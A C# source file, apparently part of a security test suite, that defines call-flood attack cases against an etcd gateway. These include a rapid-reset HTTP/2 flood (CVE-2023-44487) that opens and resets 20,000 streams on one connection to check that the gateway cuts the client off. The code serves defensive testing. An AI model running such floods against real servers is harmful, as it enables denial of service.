using System.Net.Sockets;
using Cloister.Attacks.Framework;
using Cloister.Attacks.Grounds;

namespace Cloister.Attacks.Catalogue;

/// <summary>A client makes work that leads to nothing as fast as it can, on one connection.</summary>
internal abstract class CallFlood(string name, string how) : Attack(name, Attacker.Client, "a certificate of clientCa", Promise.Protected, how)
{
    private const int Calls = 20_000;
    private const int EnhanceYourCalm = 0xb;

    public override bool Alone => true;

    public override async Task<Outcome> RunAsync(Ground ground)
    {
        Cluster cluster = await ground.SharedClusterAsync();
        using Stream gateway = GatewayPeer.Authenticate(cluster, GatewayPeer.Connect(cluster.GatewayAddress));
        int? end = await GatewayPeer.FloodAsync(gateway, Frames(), ground.Stop);

        // etcd's own port, without the gateway.
        using NetworkStream etcd = new(GatewayPeer.Connect(new Uri(cluster.Etcd.Url).Authority), ownsSocket: true);
        int? direct = await GatewayPeer.FloodAsync(etcd, Frames(), ground.Stop);
        return new Outcome(
            end == EnhanceYourCalm || end == -1 ? Trial.Refused("the connection is closed (ENHANCE_YOUR_CALM)") : Trial.Success($"{Calls} calls were taken"),
            direct is null ? Trial.Success($"etcd itself takes {Calls}, and goes on") : Trial.Refused($"etcd ends the connection with {direct}"));
    }

    /// <summary>The frames of one call.</summary>
    protected abstract byte[] Call(int streamId);

    private IEnumerable<byte[]> Frames() => Enumerable.Range(0, Calls).Select(i => Call(1 + (2 * i)));
}

internal sealed class RefusedCalls() : CallFlood("gateway-refused-calls", "refused calls count as a flood, and never reach etcd")
{
    private static readonly byte[] Block = GatewayPeer.Call("/etcdserverpb.KV/Unknown");

    protected override byte[] Call(int streamId) => GatewayPeer.Frame(GatewayPeer.Headers, 0x5, streamId, Block);
}

internal sealed class RapidResets() : CallFlood("gateway-rapid-resets", "calls that are opened and reset at once count as a flood (CVE-2023-44487)")
{
    private static readonly byte[] Block = GatewayPeer.Call("/etcdserverpb.Maintenance/Status");

    protected override byte[] Call(int streamId) =>
        [.. GatewayPeer.Frame(GatewayPeer.Headers, 0x4, streamId, Block), .. GatewayPeer.Frame(GatewayPeer.Reset, 0, streamId, [0, 0, 0, 8])];
}
